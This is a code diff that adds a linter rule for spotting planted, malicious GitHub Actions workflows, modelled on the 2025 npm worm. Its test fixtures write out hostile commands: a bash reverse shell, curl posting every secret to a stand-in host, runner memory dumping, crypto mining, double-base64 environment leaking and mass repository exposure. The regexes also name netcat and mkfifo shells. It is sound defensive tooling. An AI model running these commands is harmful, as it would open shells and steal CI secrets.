@@ -1,0 +1,320 @@
+import { inputOf, runsAction } from '../../workflow/actions.ts';
+import { type Definition, type Job, jobOf, type Step, stepsOf, type Text } from '../../workflow/model.ts';
+import { runnerKind } from '../../workflow/runners.ts';
+import { transmissionsOf } from '../../workflow/secret-flow.ts';
+import { textsBelow } from '../../workflow/stakes.ts';
+import { defineRule, type Report, yaml } from '../rule.ts';
+
+type Message = 'certain' | 'name' | 'several';
+
+export const maliciousWorkflowIndicator = defineRule({
+  id: 'malicious-workflow-indicator',
+  meta: {
+    title: 'Workflow looks like one that attackers plant',
+    why: 'Whoever gets a token that may write workflows adds one that takes secrets or opens a way back in. Such files look alike: a shell that calls home, all secrets posted at once, the runner’s memory read, a runner registered under a worm’s name.',
+    attack:
+      'The worm that went through npm in 2025 pushed a workflow to every repository that its victims could write, and it sent all secrets out on the next push. Another one left a job that runs whatever a discussion says.',
+    recommendation:
+      'Find out who added it and when. If nobody can tell, take the repository for compromised: disable the workflow, look at its runs, revoke every secret and token of the repository, remove runners that nobody knows, and look at the other branches.',
+    limits:
+      'Only shapes that are known from incidents are matched, in the text of the files given. A planted workflow may look like any other. Training material for such attacks matches too.',
+    severity: 'HIGH',
+    confidence: 'medium',
+    category: 'CICD-SEC-4',
+    surface: 'workflow',
+    rulesets: ['owasp'],
+    since: '0.1.0',
+    references: [
+      'https://www.cisa.gov/news-events/alerts/2025/09/23/widespread-supply-chain-compromise-impacting-npm-ecosystem',
+      'https://blog.gitguardian.com/ghostaction-campaign-3-325-secrets-stolen/',
+      'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3',
+    ],
+    messages: {
+      certain: 'This {{what}}.',
+      name: '{{name}} is a name that a known worm gives to what it plants.',
+      several: 'This {{what}}: each may be meant, both together are what planted workflows do.',
+    },
+  },
+  examples: {
+    bad: [
+      {
+        yaml: yaml`
+          on: push
+          jobs:
+            build:
+              runs-on: ubuntu-latest
+              steps:
+                # expect: certain
+                - run: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
+        `,
+      },
+      {
+        yaml: {
+          '.github/workflows/format.yml': yaml`
+            on: push
+            jobs:
+              format:
+                runs-on: ubuntu-latest
+                steps:
+                  # expect: certain
+                  - run: 'curl -d "$DATA" https://collect.acme.example/'
+                    env:
+                      DATA: \${{ toJSON(secrets) }}
+          `,
+          '.github/workflows/formatter.yml': yaml`
+            on: push
+            jobs:
+              lint:
+                runs-on: ubuntu-latest
+                steps:
+                  # expect: certain
+                  - run: |
+                      cat <<EOF > results.json
+                      \${{ toJSON(secrets) }}
+                      EOF
+                  - uses: actions/upload-artifact@v4
+                    with: { path: results.json }
+          `,
+          '.github/workflows/discussion.yml': yaml`
+            on: discussion
+            jobs:
+              process:
+                runs-on: self-hosted
+                steps:
+                  # expect: certain
+                  - run: echo \${{ github.event.discussion.body }}
+          `,
+          '.github/workflows/memory.yml': yaml`
+            on: push
+            jobs:
+              build:
+                runs-on: ubuntu-latest
+                steps:
+                  # expect: certain
+                  - run: |
+                      pid=$(pgrep -f Runner.Worker)
+                      sudo dd if=/proc/$pid/mem of=dump
+          `,
+          '.github/workflows/pool.yml': yaml`
+            on: pull_request
+            jobs:
+              build:
+                runs-on: ubuntu-latest
+                steps:
+                  # expect: certain
+                  - run: ./run -o stratum+tcp://pool.acme.example:3333
+          `,
+          '.github/workflows/log.yml': yaml`
+            on: push
+            jobs:
+              build:
+                runs-on: ubuntu-latest
+                steps:
+                  # expect: certain
+                  - run: printenv | base64 -w0 | base64 -w0
+                  - run: trufflehog filesystem / --json
+          `,
+          '.github/workflows/public.yml': yaml`
+            on: push
+            jobs:
+              build:
+                runs-on: ubuntu-latest
+                steps:
+                  # expect: certain
+                  - run: gh repo list --json name -q '.[].name' | xargs -I{} gh repo edit {} --visibility public
+          `,
+          '.github/workflows/shai-hulud-workflow.yml': yaml`
+            # expect: name
+            on: push
+            jobs:
+              build:
+                runs-on: ubuntu-latest
+                steps: [{ run: make }]
+          `,
+        },
+      },
+      {
+        yaml: yaml`
+          on: push
+          jobs:
+            build:
+              runs-on: ubuntu-latest
+              steps:
+                # expect: several
+                - run: ./config.sh --url https://github.com/acme/app --token "$TOKEN" --unattended
+                - run: gh repo edit acme/app --visibility public
+        `,
+      },
+    ],
+    good: [
+      {
+        yaml: yaml`
+          on: push
+          jobs:
+            build:
+              runs-on: ubuntu-latest
+              steps:
+                - run: exec 3<>/dev/tcp/127.0.0.1/5432
+                - run: nc -z localhost 5432
+                - run: trufflehog filesystem . --only-verified
+                - uses: trufflesecurity/trufflehog@v3
+                - run: ./config.sh --url https://github.com/acme/app --token "$TOKEN"
+                - run: ./backup && curl https://acme.example/health
+                  env:
+                    ALL: \${{ toJSON(secrets) }}
+                - run: echo "$KEY" | base64 -d > key
+                - run: cat /proc/meminfo
+                - run: mkfifo pipe && make < pipe
+        `,
+      },
+      {
+        yaml: yaml`
+          on: discussion
+          jobs:
+            process:
+              runs-on: ubuntu-latest
+              steps:
+                - run: echo "$BODY"
+                  env: { BODY: "\${{ github.event.discussion.body }}" }
+        `,
+      },
+    ],
+  },
+  check: { workflow: check, action: check },
+});
+
+function* check(definition: Definition): Generator<Report<Message>> {
+  const worm = wormName(definition);
+  if (worm !== undefined) yield worm;
+  const suspicions: { readonly what: string; readonly step: Step }[] = [];
+  for (const step of stepsOf(definition)) {
+    const script = scriptOf(step);
+    if (script === undefined) continue;
+    const what = certainSign(script.value, step);
+    if (what !== undefined) {
+      yield { message: 'certain', data: { what }, at: step, span: step.runSpan ?? script.span, confidence: 'high' };
+      // One line is enough to have the whole file looked at.
+      return;
+    }
+    for (const suspicion of suspiciousSigns(script.value)) {
+      if (suspicions.every((other) => other.what !== suspicion)) suspicions.push({ what: suspicion, step });
+    }
+  }
+  const [first, second] = suspicions;
+  if (first === undefined || second === undefined) return;
+  yield {
+    message: 'several',
+    data: { what: `${first.what} and ${second.what}` },
+    at: first.step,
+    span: first.step.runSpan ?? first.step.span,
+    severity: 'MEDIUM',
+    confidence: 'low',
+  };
+}
+
+function scriptOf(step: Step): Text | undefined {
+  return step.run ?? (runsAction(step, 'actions/github-script') ? inputOf(step, 'script') : undefined);
+}
+
+const WORM = /sha[i1]-?hulud/i;
+
+function wormName(definition: Definition): Report<Message> | undefined {
+  if (definition.kind === 'action') return undefined;
+  const { source, name, triggers, root } = definition;
+  const file = source.path.slice(source.path.lastIndexOf('/') + 1);
+  const span = triggers[0]?.span ?? root.span;
+  if (WORM.test(file)) return { message: 'name', data: { name: `The file’s name ${file}` }, at: definition, span };
+  return name !== undefined && WORM.test(name.value)
+    ? { message: 'name', data: { name: `The workflow’s name ${name.value}` }, at: definition, span: name.span }
+    : undefined;
+}
+
+/** What a line does; each is looked for in lines of bounded length, with bounded gaps. */
+const CERTAIN_LINES: readonly (readonly [what: string, mention: RegExp, line: RegExp])[] = [
+  ['opens a shell to another machine', /\/dev\/(?:tcp|udp)\//, /\b(?:ba|da|z|k)?sh\s+-i\b.{0,100}\/dev\/(?:tcp|udp)\//],
+  [
+    'opens a shell to another machine',
+    /\b(?:nc|ncat|netcat)\b/,
+    /\b(?:nc|ncat|netcat)\s.{0,150}?\s(?:-[a-z]{0,4}e|--exec|--sh-exec)\s+\S{0,50}(?:sh|cmd|powershell)(?:\.exe)?\b/,
+  ],
+  [
+    'opens a shell to another machine',
+    /mkfifo/,
+    /mkfifo\s.{0,200}\bsh\s+-i\b.{0,100}\b(?:nc|ncat|netcat|telnet|openssl)\b/,
+  ],
+  ['opens a shell to another machine', /pty\.spawn|os\.dup2/, /socket.{0,300}(?:os\.dup2|pty\.spawn)/],
+  ['mines', /stratum|xmrig|minerd/, /\bstratum\+(?:tcp|ssl):\/\/|(?:^|[\s/;&|])(?:xmrig|minerd)(?:\s|$)/],
+  [
+    'looks for secrets on the whole machine',
+    /trufflehog|gitleaks/,
+    /\b(?:trufflehog\s+filesystem|gitleaks\s+(?:detect|dir)\s.{0,50}(?:-s|--source))[\s=]["']?(?:~|\$HOME|\$\{HOME\}|\/(?:home|root)|\/)\/?["']?(?:\s|$)/,
+  ],
+  ['registers a runner under the name of a worm', WORM, /--name\s+["']?sha[i1]-?hulud/i],
+  [
+    'makes every repository of its owner public',
+    /--visibility|private/,
+    /\b(?:repo\s+list|user\/repos|orgs\/\S{1,100}\/repos)\b.{0,300}(?:--visibility[ =]public|private["']?\s?[=:]\s?false)/,
+  ],
+  [
+    'encodes the environment twice, past the mask of the log',
+    /base64/,
+    /(?:\bprintenv\b|\benv\b|\/environ\b|tojson\(\s*secrets|\bsecrets\.).{0,200}\|\s*base64\b[^|]{0,40}\|\s*base64\b/i,
+  ],
+];
+
+const MAX_LINE = 2_000;
+const MAX_SCRIPT = 100_000;
+
+function certainSign(script: string, step: Step): string | undefined {
+  const text = script.slice(0, MAX_SCRIPT);
+  const wanted = CERTAIN_LINES.filter(([, mention]) => mention.test(text));
+  if (wanted.length > 0) {
+    for (const line of text.split('\n')) {
+      if (line.length > MAX_LINE) continue;
+      const found = wanted.find(([, , pattern]) => pattern.test(line));
+      if (found !== undefined) return found[0];
+    }
+  }
+  if (/Runner\.Worker/.test(text) && /\/proc\/[^\s/]{1,40}\/(?:mem|maps)\b|\bgcore\b|procdump/.test(text)) {
+    return 'reads the memory of the runner, where its secrets are';
+  }
+  return (
+    secretsTaken(text, step) ??
+    (runsDiscussion(text, step) ? 'runs what a discussion says on a machine of one’s own' : undefined)
+  );
+}
+
+const ALL_SECRETS = /\btojson\(\s*secrets\s*\)/i;
+const OWN_HOST = /^(?:(?:[\w-]+\.)*github(?:usercontent)?\.com|localhost|127\..*)$/;
+
+/** Every secret at once, sent somewhere or kept in an artifact. */
+function secretsTaken(script: string, step: Step): string | undefined {
+  const inScript = ALL_SECRETS.test(script);
+  if (!inScript && !textsBelow(step.mapping).some(({ value }) => ALL_SECRETS.test(value))) return undefined;
+  const sent = transmissionsOf(step).some(
+    ({ secrets, hosts }) => secrets.includes('*') && hosts.some((host) => !OWN_HOST.test(host)),
+  );
+  if (sent) return 'sends every secret of the repository to another host';
+  const kept = jobOf(step)
+    ?.steps.slice(step.index + 1)
+    .some((later) => runsAction(later, 'actions/upload-artifact'));
+  return inScript && kept === true ? 'writes every secret of the repository into a file and uploads one' : undefined;
+}
+
+function runsDiscussion(script: string, step: Step): boolean {
+  const job: Job | undefined = jobOf(step);
+  return (
+    job !== undefined &&
+    /\$\{\{\s*github\.event\.discussion\.body\s*\}\}/i.test(script) &&
+    runnerKind(job) === 'self-hosted'
+  );
+}
+
+function suspiciousSigns(script: string): string[] {
+  const text = script.slice(0, MAX_SCRIPT);
+  const found: string[] = [];
+  if (/\bconfig\.(?:sh|cmd)\b[^\n]{0,300}--token\b/.test(text)) found.push('registers a runner');
+  if (/\bgh\s+repo\s+edit\b[^\n]{0,300}--visibility[ =]public/.test(text)) found.push('makes a repository public');
+  if (/\b(?:printenv|env)\s*\|\s*(?:base64|xxd)\b/.test(text)) found.push('encodes the whole environment');
+  return found;
+}
